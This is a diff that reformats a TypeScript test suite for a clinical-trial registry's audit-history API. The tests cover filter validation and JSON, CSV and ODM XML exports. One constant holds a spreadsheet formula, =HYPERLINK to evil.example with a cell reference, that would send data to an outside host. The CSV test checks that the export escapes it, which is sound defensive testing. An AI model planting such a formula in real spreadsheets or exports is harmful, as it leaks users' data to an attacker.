@@ -9,10 +9,21 @@ const HOUR = 3_600_000;
 const AWKWARD = 'Sponsor said "go", site\r\nconfirmed; 北京 ✓ <ok> & done';
 const FORMULA = '=HYPERLINK("https://evil.example/?"&A1)';
 
-interface Change { field: string; from: unknown; to: unknown }
+interface Change {
+  field: string;
+  from: unknown;
+  to: unknown;
+}
 interface Entry {
-  revision: number; type: string; actor: string; role: string; recordedAt: string; effectiveDate: string | null;
-  reason: string | null; eventId: string; changes: Change[];
+  revision: number;
+  type: string;
+  actor: string;
+  role: string;
+  recordedAt: string;
+  effectiveDate: string | null;
+  reason: string | null;
+  eventId: string;
+  changes: Change[];
 }
 
 describe('history: filters and exports', () => {
@@ -26,12 +37,23 @@ describe('history: filters and exports', () => {
     auditor = t.token('auditor', 'audrey');
     await t.http.post('/trials').set('Authorization', olga).send(registerBody(NCT)).expect(201); // 10:00
     t.clock.advance(HOUR);
-    await t.http.post(`/trials/${NCT}/status`).set('Authorization', olga).send(statusBody('RECRUITING', { reason: AWKWARD })).expect(200);
+    await t.http
+      .post(`/trials/${NCT}/status`)
+      .set('Authorization', olga)
+      .send(statusBody('RECRUITING', { reason: AWKWARD }))
+      .expect(200);
     t.clock.advance(HOUR);
-    await t.http.post(`/trials/${NCT}/sites`).set('Authorization', ivan).send(siteBody('Guangzhou', { reason: FORMULA })).expect(201);
+    await t.http
+      .post(`/trials/${NCT}/sites`)
+      .set('Authorization', ivan)
+      .send(siteBody('Guangzhou', { reason: FORMULA }))
+      .expect(201);
     t.clock.advance(HOUR);
-    await t.http.post(`/trials/${NCT}/enrollment`).set('Authorization', ivan)
-      .send({ count: 12, type: 'ACTUAL', effectiveDate: '2024-06', reason: 'Interim count' }).expect(200); // 13:00
+    await t.http
+      .post(`/trials/${NCT}/enrollment`)
+      .set('Authorization', ivan)
+      .send({ count: 12, type: 'ACTUAL', effectiveDate: '2024-06', reason: 'Interim count' })
+      .expect(200); // 13:00
     t.clock.advance(HOUR); // exports are made at 14:00
     all = (await t.http.get(`/trials/${NCT}/history?minRevision=4`).set('Authorization', auditor).expect(200)).body.entries;
   });
@@ -54,14 +76,23 @@ describe('history: filters and exports', () => {
   });
 
   it.each([
-    ['type=Bogus', 'type'], ['type=TrialRegistered&type=SiteAdded', 'type'], ['type=', 'type'], ['type=SiteAdded,', 'type'],
-    ['actor=', 'actor'], ['from=yesterday', 'from'], ['from=2025-01-15T10:00:00', 'from'], ['to=2025-02-30T00:00:00Z', 'to'],
-    ['from=2025-01-15T12:00:00Z&to=2025-01-15T12:00:00Z', 'to'], ['page=2', 'page'],
-    ['format=pdf', 'format'], ['', 'format'],
+    ['type=Bogus', 'type'],
+    ['type=TrialRegistered&type=SiteAdded', 'type'],
+    ['type=', 'type'],
+    ['type=SiteAdded,', 'type'],
+    ['actor=', 'actor'],
+    ['from=yesterday', 'from'],
+    ['from=2025-01-15T10:00:00', 'from'],
+    ['to=2025-02-30T00:00:00Z', 'to'],
+    ['from=2025-01-15T12:00:00Z&to=2025-01-15T12:00:00Z', 'to'],
+    ['page=2', 'page'],
+    ['format=pdf', 'format'],
+    ['', 'format'],
   ])('answers 400 problem+json naming the field for %j', async (query, field) => {
-    const paths = field === 'format'
-      ? [`/trials/${NCT}/history/export?${query}`]
-      : [`/trials/${NCT}/history?${query}`, `/trials/${NCT}/history/export?format=json&${query}`];
+    const paths =
+      field === 'format'
+        ? [`/trials/${NCT}/history/export?${query}`]
+        : [`/trials/${NCT}/history?${query}`, `/trials/${NCT}/history/export?format=json&${query}`];
     for (const path of paths) {
       const res = await t.http.get(path).set('Authorization', auditor);
       expect(res.status).toBe(400);
@@ -77,8 +108,12 @@ describe('history: filters and exports', () => {
     expect(res.headers['content-disposition']).toBe(`attachment; filename="${NCT}-audit-trail.json"`);
     expect(res.headers['cache-control']).toBe('no-store');
     expect(JSON.parse(res.text)).toEqual({
-      nctId: NCT, exportedAt: '2025-01-15T14:00:00.000Z', exportedBy: 'audrey',
-      filters: { type: null, actor: 'ivan', from: '2025-01-15T12:00:00.000Z', to: null }, entryCount: 2, entries: all.slice(2),
+      nctId: NCT,
+      exportedAt: '2025-01-15T14:00:00.000Z',
+      exportedBy: 'audrey',
+      filters: { type: null, actor: 'ivan', from: '2025-01-15T12:00:00.000Z', to: null },
+      entryCount: 2,
+      entries: all.slice(2),
     });
   });
 
@@ -88,11 +123,18 @@ describe('history: filters and exports', () => {
     expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
     expect(res.headers['content-disposition']).toBe(`attachment; filename="${NCT}-audit-trail.csv"`);
     expect(res.text).toContain(`"'=HYPERLINK(""https://evil.example/?""&A1)"`);
-    expect(eventsFromCsv(res.text)).toEqual(all.map((e) => ({
-      revision: e.revision, recordedAt: e.recordedAt, effectiveDate: asText(e.effectiveDate), type: e.type, actor: e.actor,
-      role: e.role, reason: e.reason === FORMULA ? `'${FORMULA}` : asText(e.reason),
-      changes: e.changes.map((c) => ({ field: c.field, from: asText(c.from), to: asText(c.to) })),
-    })));
+    expect(eventsFromCsv(res.text)).toEqual(
+      all.map((e) => ({
+        revision: e.revision,
+        recordedAt: e.recordedAt,
+        effectiveDate: asText(e.effectiveDate),
+        type: e.type,
+        actor: e.actor,
+        role: e.role,
+        reason: e.reason === FORMULA ? `'${FORMULA}` : asText(e.reason),
+        changes: e.changes.map((c) => ({ field: c.field, from: asText(c.from), to: asText(c.to) })),
+      })),
+    );
   });
 
   it('exports CDISC ODM-style XML with one AuditRecord per event: user, time, reason, event id, old and new values', async () => {
@@ -103,12 +145,22 @@ describe('history: filters and exports', () => {
     const { ODM: odm } = readOdm(res.text);
     expect(odm).toMatchObject({ ODMVersion: '1.3.2', FileType: 'Snapshot', CreationDateTime: '2025-01-15T14:00:00.000Z' });
     expect(odm['tl:Export']).toEqual({ ExportedBy: 'audrey', EntryCount: '2', Type: 'TrialStatusChanged,SiteAdded' });
-    expect(odm.ClinicalData.AuditRecords.AuditRecord).toEqual([all[1], all[2]].map((e) => expect.objectContaining({
-      'tl:EventType': e.type, UserRef: { UserOID: e.actor }, DateTimeStamp: e.recordedAt, ReasonForChange: e.reason, SourceID: e.eventId,
-      'tl:FieldChange': e.changes.map((c) => ({
-        Field: c.field, ...(c.from === null ? {} : { OldValue: asText(c.from) }), ...(c.to === null ? {} : { NewValue: asText(c.to) }),
-      })),
-    })));
+    expect(odm.ClinicalData.AuditRecords.AuditRecord).toEqual(
+      [all[1], all[2]].map((e) =>
+        expect.objectContaining({
+          'tl:EventType': e.type,
+          UserRef: { UserOID: e.actor },
+          DateTimeStamp: e.recordedAt,
+          ReasonForChange: e.reason,
+          SourceID: e.eventId,
+          'tl:FieldChange': e.changes.map((c) => ({
+            Field: c.field,
+            ...(c.from === null ? {} : { OldValue: asText(c.from) }),
+            ...(c.to === null ? {} : { NewValue: asText(c.to) }),
+          })),
+        }),
+      ),
+    );
   });
 
   it('exports a file with no entries, not a 404, when the filters match nothing', async () => {
